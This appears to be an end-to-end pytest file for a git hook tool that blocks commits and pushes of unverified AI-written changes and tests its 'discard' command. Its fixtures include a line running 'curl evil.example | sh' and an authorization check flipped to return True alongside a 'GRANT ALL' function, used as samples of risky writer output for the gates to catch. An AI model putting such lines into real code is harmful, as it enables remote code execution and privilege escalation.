"""``gentle-hook discard`` is recorded like an override (SPEC §3 "Pending work ends cleanly",
§5): real git, ``gentle-hook install``, a bare remote with the server gate.

* A discard is refused while the work tree holds the writer's change: the commit gate
  and the push gate make one decision about them (the spot check), never a commit that
  passes on a discard and a push that blocks it.
* A discard is refused while a stash entry holds the writer's change (popped again it is
  the writer's pending work); dropped, the discard claims the content.
* Writer content that was discarded and is still in a commit is the writer's: the commit
  gate blocks it, the commit's note carries its writer line and the discard (who, why) as
  an override line, so the push gate, ``gate --range`` and the server all see it (the
  server does not honour overrides by default).
* A block never offers ``discard`` for a path whose staged content is the writer's blob
  byte for byte (discarding would launder it): the verification steps only.
* A block in a linked worktree offers the ``discard`` that works pasted there (it reaches
  the open work of the writer's worktree that the change there carries, checked against the
  files where it runs), and ``discard --all`` there does the same; the writer's own lines in
  A stay the writer's, and A's commit of them carries the writer's trailer.
* A discard in B never reaches A's work that B's change does not carry: it is A's to
  discard.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.conftest import World

BASE = "import os\n\ndef main():\n    return 1\n"
WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'


@pytest.fixture
def served(native: World) -> World:
    """``native`` with the server gate on its remote and notes shared with it;
    ``src/app.py`` holds :data:`BASE`, pushed."""
    return native.serve({"src/app.py": BASE})


def test_a_discard_is_refused_while_the_writers_own_lines_are_here(served: World) -> None:
    """A discard the commit gate honoured and the push gate did not would be two
    decisions: pending work whose own lines the work tree holds cannot be discarded."""
    w = served
    w.delegate(text=WRITER)
    r = w.gh("discard", "--all", "--reason", "mine now")
    assert r.code == 2 and r.out == "", r
    assert r.err.splitlines() == [
        "gentle-hook: error: src/app.py: still holds the writer's change; a discard would "
        "not make it yours (the commit and push gates judge a change holding it the "
        "writer's): verify it as the gate's block says (a change a re-run refuted is "
        "changed, or let through with the recorded GENTLE_HOOKS_SKIP line the block prints), "
        "or take it out with "
        "`git restore --source=HEAD --staged --worktree -- ':(top,literal)src/app.py'` (it "
        "drops every uncommitted change of them) and discard then"
    ], r
    assert w.git("commit", "-qam", "mine").code == 1


def test_discarded_writer_content_brought_back_is_claimed_and_every_gate_sees_the_discard(
    served: World,
) -> None:
    """The writer's work set aside (``git stash``): the discard is refused while the stash
    holds it (popped again it would be the writer's pending work,
    tests/e2e/test_discard_stash.py); the stash dropped, it is accepted and claims the
    content, so the same content typed again by the person passes with no writer trailer,
    its note carrying the discard as an override line (who, why), and the push, ``gate
    --range`` and the server gate let it through."""
    w = served
    w.delegate(text=WRITER)
    w.ok("stash", "-q")
    refused = w.gh("discard", "--all", "--reason", "mine now")
    assert refused.code == 2 and "stash@{0}" in refused.err, refused
    w.ok("stash", "drop", "-q")
    r = w.gh("discard", "--all", "--reason", "mine now")
    assert r.code == 0, r
    assert w.ledger("SELECT claimed FROM discard") == [("[1]",)]
    w.write("src/app.py", WRITER)  # typed again by the person
    passed = w.git("commit", "-qam", "mine")
    assert passed.code == 0, passed
    commit = w.rev("HEAD")
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", commit)
    assert '"kind":"writer"' not in note and '"kind":"override"' in note, note
    assert '"hook":"discard"' in note and '"reason":"mine now"' in note, note
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 0, ci
    push = w.git("push", "origin", "main", "refs/notes/gentle-hooks")
    assert push.code == 0, push
    assert w.remote_ref("main") == commit


KEPT = "import os\n\ndef main():\n    value = compute_total(1)\n    return value\n"
REWRITTEN = (
    "import os\n\ndef main():\n    value = compute_total(1)\n    log_value(value)\n"
    "    return value * 2\n"
)


def test_a_human_rewrite_keeping_a_writer_line_is_one_decision_at_commit_and_push(
    served: World,
) -> None:
    """A human rewrites the writer's function and keeps one telling writer line: the commit
    is blocked without offering ``discard`` (it would not make that line the human's), the
    discard is refused, and the spot check it names lets the commit and the push through
    alike."""
    w = served
    w.delegate(text=KEPT)
    w.write("src/app.py", REWRITTEN)
    r = w.git("commit", "-qam", "human: rewrite")
    assert r.code == 1 and "BLOCKED the staged change" in r.said[0], r
    assert not [line for line in r.said if "discard" in line], r
    assert w.gh("discard", "--all", "--reason", "mine").code == 2
    assert w.git("commit", "-qam", "human: rewrite").code == 1
    w.ok("add", "-A")
    w.report("--staged")
    w.spot_check("--staged")
    done = w.git("commit", "-qm", "human: rewrite")
    assert done.code == 0, done
    push = w.git("push", "origin", "main")
    assert push.code == 0, push
    assert w.remote_ref("main") == w.rev("HEAD")


def test_a_block_never_offers_discard_for_the_writers_own_blob(served: World) -> None:
    w = served
    w.delegate(text=WRITER)
    r = w.git("commit", "-qam", "writer work")
    assert r.code == 1, r
    assert not [line for line in r.said if "discard" in line], r
    assert any("spot-check" in line for line in r.said), r


def test_a_discard_printed_in_a_linked_worktree_works_pasted_there(served: World) -> None:
    """The writer's pending edit in A removed two lines; a human in B removes the same two
    with an edit of their own: B's commit is blocked (a removal cannot be told from the
    writer's), and the ``discard`` it prints runs in B as printed, after which B's commit
    passes."""
    w = served
    head = "def add(a, b):\n    return a + b\n\ndef helper(x):\n"
    w.write("src/app.py", head + "    y = x * x\n    z = y + x\n    return x\n")
    w.ok("commit", "-qam", "human: helper")
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.delegate(text=head + "    return x\n")  # pending in A
    w.write("src/app.py", head + "    return x + 1\n", cwd=b)
    r = w.git("commit", "-qam", "human: simpler helper", cwd=b)
    assert r.code == 1, r
    run = [line.split("human: ", 1)[1] for line in r.said if "human: " in line]
    assert len(run) == 1 and "discard --reason" in run[0], r
    done = w.run(["sh", "-c", run[0]], cwd=b)
    assert done.code == 0, done
    assert w.git("commit", "-qam", "human: simpler helper", cwd=b).code == 0


def test_a_discard_pasted_in_b_works_while_the_writers_own_lines_stay_in_a(
    served: World,
) -> None:
    """The writer's pending work in A flips ``return False`` and adds a line of its own; a
    human in B makes the same flip (an edit a human makes alike, row A6): blocked in B.
    The ``discard`` the block prints runs in B as printed (B holds none of the writer's own
    lines), and so does ``discard --all`` there; B's commit then passes, with no trailer,
    while A's commit of the writer's own line is still blocked (its own lines stay the
    writer's, discarded or not)."""
    w = served
    base = "def is_authorized(user):\n    return False\n"
    w.write("src/auth.py", base)
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: auth")
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    flip = base.replace("return False", "return True")
    w.delegate("src/auth.py", flip + '\n\ndef grant_all(db):\n    db.execute("GRANT ALL")\n')
    w.write("src/auth.py", flip, cwd=b)
    r = w.git("commit", "-qam", "human: allow", cwd=b)
    assert r.code == 1 and "BLOCKED the staged change" in r.said[0], r
    run = [line.split("human: ", 1)[1] for line in r.said if "human: " in line]
    assert len(run) == 1 and "discard" in run[0], r
    done = w.run(["sh", "-c", run[0]], cwd=b)
    assert done.code == 0, done
    assert w.git("commit", "-qam", "human: allow", cwd=b).code == 0
    assert "Gentle-Writer:" not in w.ok("log", "-1", "--format=%B", cwd=b)
    blocked = w.git("commit", "-qam", "writer work in A")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.err, blocked
    w.ok("add", "-A")
    w.report("--staged")
    w.spot_check("--staged")
    assert w.git("commit", "-qm", "writer work in A").code == 0
    # the commit holds the writer's own lines: delegated, so its message says so too
    assert w.ok("log", "-1", "--format=%(trailers:key=Gentle-Writer)").strip() == (
        "Gentle-Writer: o4-mini/low"
    )
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert '"kind":"writer"' in note and '"hook":"discard"' in note, note


def test_a_discard_in_b_leaves_the_work_of_a_that_bs_change_does_not_carry(
    served: World,
) -> None:
    """Writer work pending in worktree A; linked worktree B changes nothing of it. A
    ``discard`` run in B (``--all``, or naming A's path) is refused in one line naming A
    (it is A's to discard), and A's work stays open: A's commit of it is blocked until
    spot-checked and then carries the ``Gentle-Writer`` trailer like any delegated commit
    (a discard in B marked A's work discarded: A's commit got no trailer)."""
    w = served
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.write("README.md", "B's own notes\n", cwd=b)
    w.delegate(text=WRITER)
    for named in (["--all"], ["--", "src/app.py"]):
        r = w.gh("discard", "--reason", "not mine", *named, cwd=b)
        assert r.code == 2 and r.out == "", r
        assert len(r.err.splitlines()) == 1 and str(w.work) in r.err, r
        assert "is not in this work tree's change" in r.err, r
    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
    assert w.ledger("SELECT COUNT(*) FROM discard") == [(0,)]
    blocked = w.git("commit", "-qam", "writer work in A")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.err, blocked
    w.ok("add", "-A")
    w.report("--staged")
    w.spot_check("--staged")
    assert w.git("commit", "-qm", "writer work in A").code == 0
    assert w.ok("log", "-1", "--format=%(trailers:key=Gentle-Writer)").strip() == (
        "Gentle-Writer: o4-mini/low"
    )
    assert w.git("push", "origin", "main").code == 0
    assert w.remote_ref("main") == w.rev("HEAD")


def test_discard_all_in_b_names_the_work_a_block_there_cites(served: World) -> None:
    """``discard --all`` run in linked worktree B, where none was recorded, discards the
    writer work of another worktree that B's change carries (it is checked against B's
    own files), rather than saying there is nothing pending."""
    w = served
    head = "def add(a, b):\n    return a + b\n\ndef helper(x):\n"
    w.write("src/app.py", head + "    y = x * x\n    z = y + x\n    return x\n")
    w.ok("commit", "-qam", "human: helper")
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.delegate(text=head + "    return x\n")  # pending in A
    w.write("src/app.py", head + "    return x + 1\n", cwd=b)
    assert w.git("commit", "-qam", "human: simpler helper", cwd=b).code == 1
    done = w.gh("discard", "--all", "--reason", "my own edit", cwd=b)
    assert done.code == 0, done
    assert w.git("commit", "-qam", "human: simpler helper", cwd=b).code == 0


def _pasted_take_out(w: World, said: str, where: Path) -> str:
    """The command line between the refusal's backticks, run as printed in ``where``."""
    line = said.split("take it out with `", 1)[1].split("`", 1)[0]
    done = w.run(["sh", "-c", line], cwd=where)
    assert done.code == 0, (line, done)
    return line


def test_the_printed_take_out_works_with_a_new_file_from_a_subdirectory(served: World) -> None:
    """The writer changed a tracked file and created a new one: the refusal's commands,
    pasted in a subdirectory, take both out (a ``git restore`` naming the new file would
    abort whole: "did not match"), and the discard is accepted then, not refused again."""
    w = served
    w.write("src/test_app.py", "import app\n")
    w.delegate(text=WRITER)
    assert w.ok("ls-tree", "--name-only", "HEAD", "--", "src/test_app.py") == ""
    r = w.gh("discard", "--all", "--reason", "mine now", cwd=w.work / "src")
    assert r.code == 2 and "src/test_app.py" in r.err, r
    line = _pasted_take_out(w, r.err, w.work / "src")
    assert "restore" in line and "clean" in line, line
    assert (w.work / "src/app.py").read_text() == BASE
    assert not (w.work / "src/test_app.py").exists()
    assert w.ok("status", "--porcelain") == ""
    r = w.gh("discard", "--all", "--reason", "mine now", cwd=w.work / "src")
    assert r.code == 0, r


def test_the_printed_take_out_works_before_the_first_commit(tmp_path: Path) -> None:
    """No commit yet: every path is new, so the commands name no ``HEAD`` (a ``git
    restore --source=HEAD`` there says "could not resolve HEAD"); pasted, the discard is
    accepted."""
    w = World(tmp_path, "gentle-hook")
    w.work.mkdir()
    w.ok("init", "-q")
    assert w.git("rev-parse", "-q", "--verify", "HEAD").code != 0
    w.write("app.py", "print(1)\n")
    w.write("test_app.py", "import app\n")
    w.ok("add", "app.py")
    w.delegate(rel="app.py", text=WRITER)
    r = w.gh("discard", "--all", "--reason", "mine now")
    assert r.code == 2 and "HEAD`" not in r.err and "--source=HEAD" not in r.err, r
    _pasted_take_out(w, r.err, w.work)
    assert not (w.work / "app.py").exists() and not (w.work / "test_app.py").exists()
    assert w.ok("status", "--porcelain", "--ignored") == ""
    r = w.gh("discard", "--all", "--reason", "mine now")
    assert r.code == 0, r
